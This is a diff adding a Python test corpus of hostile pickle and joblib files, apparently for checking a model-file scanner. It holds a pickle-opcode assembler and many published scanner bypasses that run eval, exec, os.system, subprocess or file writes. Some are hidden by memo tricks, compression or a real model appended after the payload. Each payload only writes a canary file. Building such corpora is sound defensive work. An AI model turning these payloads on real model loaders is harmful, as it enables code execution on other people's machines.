@@ -1,0 +1,383 @@
+"""Files that attack who loads them, by class. All that any of them does is to write one file, the canary.
+
+Most are published ways past a scanner: see `docs/safety.md`.
+"""
+
+from __future__ import annotations
+
+import bz2
+import gzip
+import io
+import lzma
+import pickle
+import struct
+import zlib
+from dataclasses import dataclass
+
+import joblib
+import numpy as np
+from sklearn.linear_model import LinearRegression
+
+START = b"\x80\x04"
+
+
+@dataclass(frozen=True)
+class Attack:
+    """A file to load. `runs` if Python's own unpickler, or joblib's, writes the canary."""
+
+    kind: str
+    name: str
+    data: bytes
+    runs: bool = True
+
+    def __str__(self) -> str:
+        return f"{self.kind}: {self.name}"
+
+
+# A small assembler.
+
+
+def text(value: str) -> bytes:
+    data = value.encode()
+    return b"X" + struct.pack("<I", len(data)) + data
+
+
+def number(value: int) -> bytes:
+    return b"J" + struct.pack("<i", value)
+
+
+def name(module: str, attribute: str) -> bytes:
+    return text(module) + text(attribute) + b"\x93"
+
+
+def listed(*items: bytes) -> bytes:
+    return b"(" + b"".join(items) + b"t"
+
+
+def call(callee: bytes, *arguments: bytes) -> bytes:
+    return callee + listed(*arguments) + b"R"
+
+
+def new(cls: bytes, *arguments: bytes) -> bytes:
+    return cls + listed(*arguments) + b"\x81"
+
+
+def state(**attributes: bytes) -> bytes:
+    return b"}(" + b"".join(text(key) + value for key, value in attributes.items()) + b"u"
+
+
+def alone(body: bytes) -> bytes:
+    return START + body + b"."
+
+
+def model_bytes(protocol: int = 4) -> bytes:
+    return pickle.dumps(LinearRegression().fit([[0.0], [1.0]], [0.0, 1.0]), protocol)
+
+
+def beside_model(body: bytes) -> bytes:
+    """The attack first, its result dropped; then a model as it should be."""
+    return START + body + b"0" + model_bytes()[2:]
+
+
+def program(canary: str) -> bytes:
+    return text(f"open({canary!r}, 'w').close()")
+
+
+def opened(canary: str) -> bytes:
+    return call(name("builtins", "open"), text(canary), text("w"))
+
+
+EVAL, EXEC, OPEN = name("builtins", "eval"), name("builtins", "exec"), name("builtins", "open")
+GETATTR, PARTIAL = name("builtins", "getattr"), name("functools", "partial")
+KERNEL = "sklearn.gaussian_process.kernels"
+ESTIMATOR = name("sklearn.linear_model._base", "LinearRegression")
+DTYPE = name("numpy", "dtype")
+SYSTEM = name("posix", "system")
+
+
+def module(of: str) -> bytes:
+    return call(name("importlib", "import_module"), text(of))
+
+
+def touch(canary: str) -> bytes:
+    return text(f": > {canary}")
+
+
+def listing(*items: bytes) -> bytes:
+    return b"](" + b"".join(items) + b"e"
+
+
+def pickled(data: bytes) -> bytes:
+    return b"B" + struct.pack("<I", len(data)) + data
+
+
+def _direct(canary: str) -> dict[str, bytes]:
+    return {
+        "eval": call(EVAL, program(canary)),
+        "exec": call(EXEC, program(canary)),
+        "open": opened(canary),
+        "os.system": call(SYSTEM, touch(canary)),
+        "subprocess": call(name("subprocess", "check_call"), listing(text("touch"), text(canary))),
+        "socket": call(name("socket", "create_server"), listed(text("127.0.0.1"), number(0)))
+        + b"0"
+        + opened(canary),
+    }
+
+
+def _chains(canary: str) -> dict[str, bytes]:
+    file = (text(canary), text("w"))
+    return {
+        "getattr of a module": call(call(GETATTR, module("builtins"), text("open")), *file),
+        "getattr of a function": call(call(GETATTR, EVAL, text("__call__")), program(canary)),
+        "getattr of a safe class": call(GETATTR, call(GETATTR, ESTIMATOR, text("fit")), text("__globals__"))
+        + b"0"
+        + opened(canary),
+        "operator.methodcaller": call(
+            call(name("operator", "methodcaller"), text("open"), *file), module("builtins")
+        ),
+        "operator.attrgetter": call(
+            call(call(name("operator", "attrgetter"), text("open")), module("builtins")), *file
+        ),
+        "operator.itemgetter": call(
+            call(call(name("_operator", "itemgetter"), text("open")), name("numpy", "__builtins__")), *file
+        ),
+        "functools.partial": call(call(PARTIAL, OPEN, *file)),
+        "functools.reduce": call(name("functools", "reduce"), EXEC, listed(program(canary), b"}")),
+        "importlib": call(call(name("operator", "attrgetter"), text("system")), module("os"))
+        + listed(touch(canary))
+        + b"R",
+        "pkgutil.resolve_name": call(call(name("pkgutil", "resolve_name"), text("builtins:open")), *file),
+        "map": call(name("builtins", "list"), call(name("builtins", "map"), EXEC, listing(program(canary)))),
+    }
+
+
+def _helpers(canary: str) -> dict[str, bytes]:
+    code = program(canary)
+    return {
+        "numpy.testing runstring": call(name("numpy.testing._private.utils", "runstring"), code, b"}"),
+        "numpy.testing measure": call(name("numpy.testing._private.utils", "measure"), code),
+        "numpy.f2py getlincoef": call(
+            name("numpy.f2py.crackfortran", "getlincoef"), text(f"open({canary!r}, 'w').close() or 1"), b"}"
+        ),
+        "numpy.f2py _eval_length": call(name("numpy.f2py.crackfortran", "_eval_length"), code, b"}"),
+        "timeit": call(name("timeit", "timeit"), code, text("pass"), name("time", "perf_counter"), b"K\x01"),
+        "profile": call(name("profile", "run"), code),
+        "cProfile": call(name("cProfile", "run"), code),
+        "codeop": call(EXEC, call(name("codeop", "compile_command"), code)),
+        "_io.FileIO": call(name("_io", "FileIO"), text(canary), text("w")),
+        "shutil": call(name("shutil", "copyfile"), text("/dev/null"), text(canary)),
+        "logging": call(name("logging", "FileHandler"), text(canary)),
+        "code in a function": call(
+            name("types", "FunctionType"),
+            call(name("builtins", "compile"), code, text("x"), text("exec")),
+            b"}",
+        )
+        + b")R",
+        "cloudpickle": call(name("cloudpickle.cloudpickle", "subimport"), text("os")) + b"0" + opened(canary),
+    }
+
+
+def _libraries(canary: str) -> dict[str, bytes]:
+    nested = pickled(alone(opened(canary)))
+    return {
+        "pickle.loads": call(name("_pickle", "loads"), nested),
+        "joblib.load": call(name("joblib", "load"), call(name("_io", "BytesIO"), nested)),
+        "pandas.read_pickle": call(name("pandas", "read_pickle"), call(name("_io", "BytesIO"), nested)),
+        "joblib.dump": call(name("joblib", "dump"), b"N", text(canary)),
+        "joblib.Memory": call(name("joblib.memory", "Memory"), text(canary)),
+        "pandas.to_pickle": call(name("pandas", "to_pickle"), b"N", text(canary)),
+        "numpy.savetxt": call(name("numpy", "savetxt"), text(canary), listing(b"K\x01")),
+        "numpy.memmap": call(
+            name("numpy", "memmap"), text(canary), text("u1"), text("w+"), b"K\x00", b"K\x01"
+        ),
+        "sklearn.datasets": call(
+            name("sklearn.datasets", "dump_svmlight_file"),
+            listing(listing(b"K\x01")),
+            listing(b"K\x01"),
+            text(canary),
+        ),
+        "sklearn.utils._testing": call(
+            name("sklearn.utils._testing", "assert_run_python_script_without_output"), program(canary)
+        ),
+        "scipy.stats": call(name("copyreg", "__newobj__"), name("scipy.stats._continuous_distns", "norm_gen"))
+        + state(_parse_arg_template=program(canary))
+        + b"b",
+    }
+
+
+def _hostile_calls(canary: str) -> dict[str, bytes]:
+    code = program(canary)
+    write = call(PARTIAL, name("numpy", "memmap"), text(canary), text("u1"), text("w+"), b"K\x00")
+    return {
+        "a random state that calls": call(name("numpy.random._pickle", "__randomstate_ctor"), code, EVAL),
+        "a random state that writes": call(
+            name("numpy.random._pickle", "__randomstate_ctor"), b"K\x01", write
+        ),
+        "copyreg.__newobj__": call(name("copyreg", "__newobj__"), name("subprocess", "Popen"))
+        + b"0"
+        + opened(canary),
+        "copyreg._reconstructor": call(
+            name("copyreg", "_reconstructor"),
+            name("logging", "FileHandler"),
+            name("logging", "FileHandler"),
+            text(canary),
+        ),
+        "NEWOBJ_EX": name("_io", "FileIO") + listed() + b"}\x920" + opened(canary),
+        "a default": call(name("collections", "defaultdict"), call(PARTIAL, *(OPEN, text(canary), text("w"))))
+        + b"0"
+        + opened(canary),
+    }
+
+
+def _disguised(canary: str) -> dict[str, bytes]:
+    """Whole files: the same call, hidden from who reads the file in another way than Python does."""
+    body = opened(canary)
+    other = text("collections") + b"q\x000" + text("builtins") + b"q\x000"
+    outdated = text("OrderedDict") + b"q\x010" + text("open") + b"q\x010"
+    arguments = listed(text(canary), text("w"))
+    return {
+        "dropped result, then a model": beside_model(body),
+        "memo overwritten": alone(other + outdated + b"h\x00h\x01\x93" + arguments + b"R"),
+        "memo far away": alone(
+            text("builtins")
+            + b"r\xe8\x03\x00\x000j\xe8\x03\x00\x00"
+            + text("open")
+            + b"\x93"
+            + arguments
+            + b"R"
+        ),
+        "values duplicated and dropped": alone(text("x") + b"200" + body),
+        "broken opcode behind it": START + body + b"\xff\xff.",
+        "ends without STOP": START + body,
+        "wrong argument behind it": START + body + b"I not a number\n.",
+        "wrong frame": START + b"\x95" + struct.pack("<Q", len(body) + 1) + body + b".",
+        "GLOBAL of protocol 0": b"cbuiltins\nopen\n(V" + canary.encode() + b"\nVw\ntR.",
+        "INST": b"(V" + canary.encode() + b"\nVw\nibuiltins\nopen\n.",
+        "OBJ": b"\x80\x02(c_io\nFileIO\nV" + canary.encode() + b"\nVw\no.",
+        "name of Python 2": b"\x80\x02c__builtin__\nopen\n(V" + canary.encode() + b"\nVw\ntR.",
+        "module of Python 2": b"\x80\x02cos\npopen\n(V: > " + canary.encode() + b"\ntR.",
+        "gzip": gzip.compress(alone(body)),
+        "bz2": bz2.compress(alone(body)),
+        "xz": lzma.compress(alone(body)),
+        "lzma": lzma.compress(alone(body), lzma.FORMAT_ALONE),
+        "zlib": zlib.compress(alone(body)),
+        "in an array of objects": _array_of(body),
+    }
+
+
+def _array_of(body: bytes) -> bytes:
+    """An array as joblib writes it: what is in it is a pickle of its own."""
+    file = io.BytesIO()
+    joblib.dump({"vocabulary_": np.array(["a", None], dtype=object)}, file)
+    whole = file.getvalue()
+    inner = whole.index(b"\x80\x05", 2)
+    return whole[: inner + 2] + body + b"0" + whole[inner + 2 :]
+
+
+def _dotted(canary: str) -> dict[str, bytes]:
+    keep = name(KERNEL, "RBF") + b"N" + state(home=text("builtins"), what=text("open")) + b"\x86b0"
+    kept = name(KERNEL, "RBF.home") + name(KERNEL, "RBF.what") + b"\x93"
+    modules = name(KERNEL, "RBF") + b"N" + name("numpy._core._internal", "sys.modules") + b"\x86b0"
+    return {
+        "through a module": call(name("joblib", "os.system"), touch(canary)),
+        "through a safe module": call(name("sklearn.utils._testing", "os.system"), touch(canary)),
+        "name kept in a class": keep + call(kept, text(canary), text("w")),
+        "modules as attributes": modules + call(name(KERNEL, "RBF.os.system"), touch(canary)),
+    }
+
+
+def _states(_: str) -> dict[str, bytes]:
+    """Nothing is run while it loads: what is loaded has been changed, or changes what others do."""
+    lie = b"(" + number(3) + text("|") + b"NNN" + number(-1) + number(-1) + number(0) + b"tb"
+    objects = call(DTYPE, text("O8"), b"\x89", b"\x88") + lie
+    estimator = new(ESTIMATOR)
+    return {
+        "method of a class": ESTIMATOR + b"N" + state(predict=name("numpy", "log1p")) + b"\x86b0" + estimator,
+        "attribute of a function": name("sklearn.utils.validation", "check_array")
+        + state(a=b"N")
+        + b"b0"
+        + estimator,
+        "class of an object": estimator
+        + b"N"
+        + state(__class__=name("sklearn.svm._classes", "SVC"))
+        + b"\x86b",
+        "dictionary of an object": estimator + b"N" + state(__dict__=b"}") + b"\x86b",
+        "address as array interface": estimator
+        + state(__array_interface__=state(data=listed(number(1), b"\x89")))
+        + b"b",
+        "address by a lent key": new(name("sklearn.utils._bunch", "Bunch"))
+        + text("__array_interface__")
+        + b"}s",
+        "objects that deny it": objects,
+        "objects that deny it, in a structure": call(DTYPE, text("V8"), b"\x89", b"\x88")
+        + b"("
+        + number(3)
+        + text("|")
+        + b"N"
+        + listed(text("a"))
+        + state(a=listed(call(DTYPE, text("O8"), b"\x89", b"\x88"), number(0)))
+        + number(8)
+        + number(1)
+        + number(0)
+        + b"tb",
+        "state twice": call(
+            name("numpy._core.multiarray", "_reconstruct"),
+            name("numpy", "ndarray"),
+            listed(number(0)),
+            text("b"),
+        )
+        + b"2(K\x01"
+        + listed(number(1))
+        + call(DTYPE, text("u1"), b"\x89", b"\x88")
+        + b"\x89C\x01xtb"
+        + b"(K\x01"
+        + listed(number(1))
+        + call(DTYPE, text("u1"), b"\x89", b"\x88")
+        + b"\x89C\x01ytb0",
+        "made with arguments": call(ESTIMATOR, b"\x88"),
+        "function called": call(name("numpy", "log1p"), number(1)),
+        "object called": call(estimator, number(1)),
+        "container that is none": estimator + number(1) + b"a",
+    }
+
+
+def _outside(_: str) -> dict[str, bytes]:
+    """Nothing is run: the file goes on, or leans on what is not in it."""
+    return {
+        "several pickles": model_bytes() + alone(opened("never")),
+        "bytes after STOP": model_bytes() + b"\0\0",
+        "extension": START + b"\x82\x01.",
+        "persistent id": START + text("x") + b"Q.",
+        "old persistent id": b"Px\n.",
+        "buffer": b"\x80\x05\x97.",
+        "class of the script": alone(new(name("__main__", "Model"))),
+        "class of an unknown module": alone(new(name("helpers.models", "Model"))),
+        "function kept for later": alone(
+            new(name("sklearn.preprocessing._function_transformer", "FunctionTransformer"))
+            + state(func=EVAL)
+            + b"b"
+        ),
+        "machinery of a module": alone(name("numpy", "__builtins__")),
+        "torch": alone(call(name("torch", "load"), text("x"))),
+        "old array of joblib": alone(
+            new(name("joblib.numpy_pickle", "NDArrayWrapper")) + state(filename=text("x")) + b"b"
+        ),
+    }
+
+
+def corpus(canary: str) -> list[Attack]:
+    """Give all attacks that would write this file."""
+    found = []
+    for kind, bodies in (
+        ("called by its name", _direct),
+        ("chain", _chains),
+        ("helper that runs text", _helpers),
+        ("library that loads or writes", _libraries),
+        ("hostile arguments", _hostile_calls),
+        ("dotted name", _dotted),
+    ):
+        found += [Attack(kind, name, alone(body)) for name, body in bodies(canary).items()]
+    found += [Attack("disguise", name, data) for name, data in _disguised(canary).items()]
+    found += [Attack("state", name, beside_model(body), runs=False) for name, body in _states(canary).items()]
+    found += [Attack("outside", name, data, runs=False) for name, data in _outside(canary).items()]
+    return found
